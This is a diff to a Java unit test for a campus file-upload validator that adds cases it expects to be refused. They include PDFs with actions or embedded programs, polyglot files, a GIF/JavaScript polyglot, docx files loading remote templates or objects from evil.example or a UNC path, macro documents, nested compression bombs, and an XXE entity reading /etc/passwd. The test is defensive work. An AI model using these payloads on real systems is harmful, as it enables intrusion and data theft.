@@ -8,6 +8,8 @@ import com.mockhu.dm.support.CampusTest;
 import com.mockhu.dm.support.Form;
 import com.mockhu.dm.support.Papers;
 import com.mockhu.dm.support.Pixels;
+import com.mockhu.dm.support.Samples;
+import com.mockhu.dm.support.Workbooks;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.file.Files;
@@ -38,6 +40,8 @@ class UploadRefusalTest extends CampusTest {
   private static final String ACTIVE =
       "The PDF contains JavaScript or starts programs or other files.";
   private static final String NO_PICTURE = "The picture is damaged or cannot be read.";
+  private static final String TEMPLATE = "The file loads a template from elsewhere.";
+  private static final String TWO_KINDS = "The file is two kinds of file at once.";
   private static final int MEGABYTE = 1 << 20;
 
   @TempDir static Path folder;
@@ -80,16 +84,32 @@ class UploadRefusalTest extends CampusTest {
         file("thesis.pdf", Papers.text("%PDF-1.7\nnothing"), DAMAGED),
         file("thesis.pdf", Papers.pdfWithScript(), ACTIVE),
         file("thesis.pdf", Papers.pdfThatStartsPrograms(), ACTIVE),
+        file("thesis.pdf", Papers.pdfWithActionOnPage(), ACTIVE),
+        file("thesis.pdf", Papers.pdfWithFile("setup.exe"), "The PDF carries a program."),
         file("thesis.pdf", Papers.pdfWithPassword(), ENCRYPTED),
+        file("thesis.pdf", Papers.joined(Papers.pdf(), archive()), TWO_KINDS),
+        file("old.doc", Papers.joined(Papers.compound("R", "WordDocument"), archive()), TWO_KINDS),
+        file("code.rar", Papers.joined(Papers.rar("a", 0), archive()), TWO_KINDS),
+        file("photo.gif", Papers.text("GIF89a=1;alert(document.domain)//"), NO_PICTURE),
+        file("photo.webp", cut(Samples.of("animated.webp")), NO_PICTURE),
         file("thesis.docx", Papers.docxWithMacros(), MACROS),
         file("thesis.zip", Papers.zip("word/vbaProject.bin", Papers.text("m")), MACROS),
+        file("thesis.docx", docx("attachedTemplate", "http://evil.example/t.dotm"), TEMPLATE),
+        file("thesis.docx", docx("attached&#84;emplate", "\\\\evil\\t.dotm"), TEMPLATE),
         file(
             "thesis.docx",
-            Papers.docxWithForeignTemplate(),
-            "The file loads a template from elsewhere."),
+            docx("oleObject", "http://evil.example/x.html!"),
+            "The file loads an object from elsewhere."),
         file("thesis.docx", Papers.compound("Root Entry", "EncryptedPackage"), ENCRYPTED),
         file("old.doc", Papers.compound("Root Entry", "WordDocument", "Macros"), MACROS),
         file("old.xls", Papers.compound("R", "Workbook", "_VBA_PROJECT_CUR"), MACROS),
+        file("old.doc", Samples.of("macros.doc"), MACROS),
+        file("old.xls", Samples.of("macros.xls"), MACROS),
+        file("thesis.docx", Samples.of("macros.docm"), MACROS),
+        file("old.xls", Workbooks.withSheet(1), MACROS),
+        file("marks.xlsx", Papers.xlsxWithMacroSheet(), MACROS),
+        file("old.xls", Workbooks.withPassword(), ENCRYPTED),
+        file("old.doc", Workbooks.textWithPassword(), ENCRYPTED),
         file("code.zip", cut(Papers.zip("a", new byte[900])), DAMAGED),
         file("code.zip", Papers.zipWithPassword(), ENCRYPTED),
         file("code.7z", Papers.sevenZip(Papers.text("a"), "secret"), ENCRYPTED),
@@ -103,6 +123,18 @@ class UploadRefusalTest extends CampusTest {
             "bomb.zip",
             Papers.zip("a.zip", Papers.zip("zeros", new byte[5 * MEGABYTE])),
             "The archive unpacks to more than 100 times its size."),
+        file(
+            "bomb.zip",
+            Papers.zip("zeros.gz", Papers.gzip(new byte[5 * MEGABYTE])),
+            "The archive unpacks to more than 100 times its size."),
+        file(
+            "bomb.zip",
+            Papers.zip("a.tar.gz", Papers.gzip(Papers.tar("z", new byte[5 * MEGABYTE]))),
+            "The archive unpacks to more than 100 times its size."),
+        file(
+            "deep.zip",
+            Papers.zip("a.tar.gz", Papers.gzip(Papers.tar("a.zip", archive()))),
+            "The archive is nested more than 3 deep."),
         file(
             "bomb.7z",
             Papers.sevenZip(new byte[5 * MEGABYTE], null),
@@ -118,6 +150,16 @@ class UploadRefusalTest extends CampusTest {
             "marks.xml",
             Papers.text("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
             "XML with a document type or entities is not accepted."));
+  }
+
+  private static byte[] archive() {
+    return Papers.zip("a.txt", Papers.text("a"));
+  }
+
+  /** The order of attributes and the way they are written mean nothing. */
+  private static byte[] docx(String type, String target) {
+    return Papers.docxReferringTo(
+        "TargetMode='External' Target='%s' Type='http://x/%s'".formatted(target, type));
   }
 
   private static Arguments file(String name, byte[] content, String message) {
